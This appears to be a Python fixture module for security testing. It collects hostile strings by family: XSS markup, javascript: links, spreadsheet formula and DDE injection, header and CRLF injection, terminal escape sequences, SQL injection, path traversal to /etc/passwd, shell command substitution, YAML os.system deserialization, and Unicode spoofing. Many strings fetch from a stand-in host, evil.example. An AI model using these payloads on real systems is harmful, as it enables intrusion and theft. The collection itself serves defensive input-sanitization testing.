r"""What hostile users write into names, labels and comments: a corpus by family, each text once.

A text that runs sets `window.hacked`; one that fetches asks `evil.example`. Written for this
project; escapes and numbers keep the unseen characters readable in an editor.
"""

from collections.abc import Iterator
from dataclasses import dataclass

RUN = "window.hacked=1"
HOST = "evil.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text, and the family that it belongs to."""

    family: str
    text: str


def _tags() -> Iterator[str]:
    for tag in ("script", "SCRIPT", "scr<script>ipt", "svg><script", "script/x", "script\t"):
        yield f"<{tag}>{RUN}</script>"
    yield f"<script src=//{HOST}/x.js></script>"
    yield f"<script type=module src=https://{HOST}/x.mjs></script>"
    yield f"</td></tr></table><script>{RUN}</script>"
    yield f"</style><script>{RUN}</script>"
    yield f"</title><script>{RUN}</script>"
    yield f"</textarea><script>{RUN}</script>"
    yield f"--><script>{RUN}</script><!--"
    yield f"]]><script>{RUN}</script>"
    yield f"<!--<img src=--><img src=x onerror={RUN}>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>"
    yield f"<xss id=x tabindex=1 onfocus={RUN} style=display:block>#x</xss>"
    yield f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
    yield f"<iframe src=javascript:parent.{RUN}></iframe>"
    yield f"<iframe src=https://{HOST}/></iframe>"
    yield f"<object data=javascript:{RUN}></object>"
    yield f"<object data=https://{HOST}/x.swf></object>"
    yield f"<embed src=javascript:{RUN}>"
    yield f"<embed src=//{HOST}/x>"
    yield f"<link rel=stylesheet href=//{HOST}/x.css>"
    yield f"<base href=//{HOST}/>"
    yield f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>"
    yield f"<meta http-equiv=refresh content='0;javascript:{RUN}'>"
    yield f"<style>@import'//{HOST}/x.css';</style>"
    yield f"<style>body{{background:url(//{HOST}/x.png)}}</style>"
    yield f"<form action=//{HOST}/><input name=password autofocus><button>go</button></form>"


def _events() -> Iterator[str]:
    for event in ("onerror", "ONERROR", "oNeRrOr", "onerror\n", "onerror\t", "onerror "):
        yield f"<img src=x {event}={RUN}>"
    yield f"<img src=x:x onerror={RUN} //"
    yield f"<img/src=x/onerror={RUN}>"
    yield f'<img src="x`x" `onerror={RUN}>'
    yield f"<img src=1 href=1 onerror='{RUN}'></img>"
    yield f"<image src=x onerror={RUN}>"
    yield f"<img srcset='//{HOST}/a.png 1x, //{HOST}/b.png 2x'>"
    yield f"<img src=//{HOST}/pixel.png>"
    yield f"<video><source onerror={RUN}></video>"
    yield f"<video poster=//{HOST}/x.png>"
    yield f"<video src=x onerror={RUN}>"
    yield f"<audio src=x onerror={RUN}>"
    yield f"<audio src=//{HOST}/x.ogg autoplay>"
    for tag, event in (
        ("body", "onload"),
        ("body", "onpageshow"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("div style=position:fixed;inset:0", "onmouseover"),
        ("div style=position:fixed;inset:0", "onpointerenter"),
        ("p style=animation:x", "onanimationstart"),
        ("p style=transition:all", "ontransitionend"),
        ("b", "onclick"),
        ("keygen autofocus", "onfocus"),
        ("dialog open", "onclose"),
        ("button popovertarget=x", "onclick"),
    ):
        yield f"<{tag} {event}={RUN}>x"


def _svg() -> Iterator[str]:
    yield f"<svg onload={RUN}>"
    yield f"<svg/onload={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href=data:text/javascript,{RUN} /></svg>"
    yield f"<svg><a xlink:href=javascript:{RUN}><text x=20 y=20>x</text></a></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set onbegin={RUN} attributename=x>"
    yield f"<svg><animate xlink:href=#x attributeName=href values=javascript:{RUN} />"
    yield f"<svg><image href=//{HOST}/x.svg></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></use></svg>"
    yield f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>"
    yield f"<svg><style>@import'//{HOST}/x.css'</style></svg>"
    yield f"<svg><title><img src=x onerror={RUN}></title></svg>"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>"


def _attributes() -> Iterator[str]:
    for quote in ('"', "'", "`", ""):
        yield f"{quote} onmouseover={RUN} x={quote}"
        yield f"{quote}><img src=x onerror={RUN}>"
        yield f"{quote} autofocus onfocus={RUN} {quote}"
    yield f'" style="background:url(//{HOST}/x.png)" x="'
    yield f"'-{RUN}-'"
    yield f"\\';{RUN}//"
    yield f'";{RUN};//'
    yield f"${{{RUN}}}"
    yield f"{{{{constructor.constructor('{RUN}')()}}}}"
    yield "{{7*7}}{% print(1) %}${7*7}<%= 7*7 %>#{7*7}"
    yield f"</script><script>{RUN}</script>"
    yield f"\\u003cimg src=x onerror={RUN}\\u003e"
    yield f"&lt;img src=x onerror={RUN}&gt;"
    yield f"&#60;img src=x onerror={RUN}&#62;"
    yield f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;"
    yield f"%3Cscript%3E{RUN}%3C/script%3E"
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"<\x00script>{RUN}</script>"


def _addresses() -> Iterator[str]:
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"&#106;avascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"\x01javascript:{RUN}",
        f" javascript:{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
        f"blob:https://{HOST}/1",
        f"https://{HOST}/",
        f"//{HOST}/",
        f"https:\\\\{HOST}\\",
        f"https://site.example@{HOST}/",
        f"file:///etc/passwd?{HOST}",
    ):
        yield f"<a href={address}>x</a>"
        yield f"[x]({address})"
    for bare in (
        f"https://{HOST}/bare",
        f"http://{HOST}",
        f"HTTPS://{HOST}",
        f"ftp://{HOST}/",
        f"www.{HOST}",
        f"WWW.{HOST}",
        f"robin@{HOST}",
        f"mailto:robin@{HOST}",
        f"xmpp:robin@{HOST}/x",
    ):
        yield f"see {bare} now"


def _markdown() -> Iterator[str]:
    yield f"![x](//{HOST}/pixel.png)"
    yield f"![x](https://{HOST}/pixel.png 'title')"
    yield f"[x](<https://{HOST}/>)"
    yield f"[x][1]\n\n[1]: https://{HOST}/"
    yield f"<https://{HOST}/>"
    yield f"<robin@{HOST}>"
    yield f"[![x](//{HOST}/a.png)](//{HOST}/b)"
    yield f'[x](https://{HOST}/ "onmouseover={RUN}")'
    yield "# heading"
    yield "text\n====\n"
    yield "| a | b |\n|---|---|\n| 1 | 2 |"
    yield "a | b | c || d"
    yield "- [ ] task\n- [x] done"
    yield "> quoted\n>> twice"
    yield "```\ncode\n```"
    yield "`code` ``co`de``"
    yield "**bold** __bold__ *it* _it_ ~~gone~~"
    yield "\\**escaped\\** \\[x](y)"
    yield "a  \nb<br>c"
    yield "---\n***\n___"
    yield "[^1]\n\n[^1]: note"
    yield f"<details><summary>x</summary>\n\n[y](//{HOST}/)</details>"


def _streamlit() -> Iterator[str]:
    yield ":red[text]"
    yield ":red-background[text]"
    yield ":rainbow[text]"
    yield ":violet-badge[approved by the admin]"
    yield ":material/check_circle: verified"
    yield ":streamlit: :smile: :+1: :heart:"
    yield ":small[text]"
    yield ":shortcut[Ctrl+C]"
    yield f":blue[[x](//{HOST}/)]"
    yield r"$\href{javascript:window.hacked=1}{x}$"
    yield rf"$$\includegraphics{{//{HOST}/x.png}}$$"
    yield r"$\htmlData{x=y}{a}\url{//evil.example}$"
    yield r"\(\unicode{x41}\) \[\sum\]"
    yield r"$\def\a{\a\a}\a$"
    yield "a -> b <- c <-> d -- e >= f != g"


def _plotly() -> Iterator[str]:
    yield f"<a href='javascript:{RUN}'>x</a>"
    yield f"<a href='https://{HOST}/' target=_top>x</a>"
    yield f'<span style="background:url(//{HOST}/x.png)">x</span>'
    yield f"<b>bold</b><br><i>next</i><extra>{RUN}</extra>"
    yield "%{x} %{y:.3f} %{customdata[0]} %{text}"
    yield "%{x|%Y}<extra></extra>"
    yield "<sup>a</sup><sub>b</sub><em>c</em>"
    yield "$\\alpha$"
    yield f"<a xlink:href=javascript:{RUN} xlink:show=new>x</a>"


def _unseen() -> Iterator[str]:
    for number in (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x061C):
        yield f"report{chr(number)}fdp.exe"
    for number in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x180E, 0x2063):
        yield f"ad{chr(number)}min"
    for number in (0x115F, 0x3164, 0xFFA0, 0x2800, 0x034F, 0xFE0F, 0xE0101):
        yield f"{chr(number)}blank{chr(number)}"
    for number in (0xE0041, 0x2028, 0x2029, 0x0085, 0x00A0, 0xFFF9, 0xFFFE, 0xE000, 0x10FFFF):
        yield f"a{chr(number)}b"
    yield "Z" + "\u0335\u0321\u0352\u0300" * 40 + "algo"
    yield "\ufdfd" * 20


def _homoglyphs() -> Iterator[str]:
    yield "\u0430dmin"
    yield "r\u043ebin@s\u0456te.example"
    yield "\u1d00\u1d05\u1d0d\u026a\u0274"
    yield "\uff41\uff44\uff4d\uff49\uff4e"
    yield "\u0391dmin \u2044 \u2215 \u29f8"
    yield "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427"
    yield "applied\u2714 by \u2705 admin"


def _formulas() -> Iterator[str]:
    for start in "=+-@\t\r\n\0":
        yield f"{start}cmd|' /C calc'!A0"
    for start in ("\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u200b=", "\xa0=", "'=", '"='):
        yield f"{start}1+1"
    yield f'=HYPERLINK("https://{HOST}/?"&A1,"open")'
    yield f'=IMPORTXML("https://{HOST}/","//a")'
    yield f'=WEBSERVICE("https://{HOST}/")'
    yield f'=IMAGE("https://{HOST}/x.png")'
    yield '@SUM(1+1)*cmd|" /C calc"!A0'
    yield "-2+3+cmd|' /C calc'!A0"
    yield '=DDE("cmd";"/C calc";"x")'
    yield 'a";=1+1;"b'
    yield "a,=1+1,b"
    yield "a\n=1+1"
    yield "1e9999"


def _headers() -> Iterator[str]:
    for end in ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028"):
        yield f"robin{end}Bcc: victim@{HOST}"
    yield f"robin\r\n\r\n<html><script>{RUN}</script>"
    yield "robin\r\nContent-Type: text/html\r\nX-Trimtab-Person: {}"
    yield "robin\r\n.\r\nMAIL FROM:<a@evil.example>"
    yield "robin%0d%0aSet-Cookie:%20a=b"
    yield "=?utf-8?q?robin=0D=0ABcc:_victim?="
    yield "\r\nERROR data.store: forged line"
    yield "\nINFO: 127.0.0.1 GET /admin 200"


def _terminals() -> Iterator[str]:
    yield "\x1b[2J\x1b[H cleared"
    yield "\x1b[31mred\x1b[0m"
    yield "\x1b]0;title\x07"
    yield f"\x1b]8;;https://{HOST}/\x1b\\link\x1b]8;;\x1b\\"
    yield "\x1b]52;c;cm0gLXJmIC8=\x07"
    yield "\x1b[?1049h\x1b[6n"
    yield "\x1bP$qm\x1b\\"
    yield "\x9b31mred\x9b0m"
    yield "\x9d0;title\x9c"
    yield "over\rwritten"
    yield "back\b\b\b\bspace"
    yield "\a\a\a bell \x7f del"


def _chat() -> Iterator[str]:
    yield "<!here> <!channel> <!everyone>"
    yield "@here @channel @everyone @all"
    yield "<@U0123456> <#C0123456> <!subteam^S0123456>"
    yield f"<https://{HOST}/|Approve>"
    yield f"<mailto:robin@{HOST}|Robin>"
    yield f"[Approve](https://{HOST}/) ![x](https://{HOST}/x.png)"
    yield "*bold* _it_ ~gone~ `code` ```block```"
    yield "<!date^0^{date}|x> :tada: #general"
    yield "&lt;!here&gt;"


def _queries() -> Iterator[str]:
    yield "'; DROP TABLE samples; --"
    yield "\"; ATTACH 'x.duckdb' AS x; --"
    yield "' UNION SELECT * FROM read_csv('/etc/passwd') --"
    yield "%' ESCAPE '\\' OR 1=1 --"
    yield '",job=~".*"} or up{x="'
    yield "(a+)+$"
    yield "../../etc/passwd"
    yield "..\\..\\windows\\win.ini"
    yield "/etc/passwd"
    yield "CON"
    yield "$(touch hacked) `touch hacked` | touch hacked; touch hacked"
    yield "--out=/etc/passwd"
    yield "!!python/object/apply:os.system [id]"
    yield '{"__proto__": {"hacked": 1}}'
    yield "__proto__"


def _sizes() -> Iterator[str]:
    yield "x" * 1000
    yield "<b>" * 300
    yield "[" * 500 + "]" * 500
    yield "W " * 500
    yield "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 100
    yield "(" * 900


_FAMILIES = {
    "tags": _tags,
    "events": _events,
    "svg": _svg,
    "attributes": _attributes,
    "addresses": _addresses,
    "markdown": _markdown,
    "streamlit": _streamlit,
    "plotly": _plotly,
    "unseen": _unseen,
    "homoglyphs": _homoglyphs,
    "formulas": _formulas,
    "headers": _headers,
    "terminals": _terminals,
    "chat": _chat,
    "queries": _queries,
    "sizes": _sizes,
}

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(family, text) for family, texts in _FAMILIES.items() for text in dict.fromkeys(texts())
)
"""Every text is one that the sources let through: at most 1,024 characters, no half characters."""

HALF_CHARACTERS = ("a\ud800b", "\udfff", "\udc80name", "x\udbff\udbffy")
"""Lone surrogates: no Unicode text, though JSON and command lines may carry them."""

HUGE = "<img src=x onerror=window.hacked=1>" * 1900
"""64 KB in one name."""
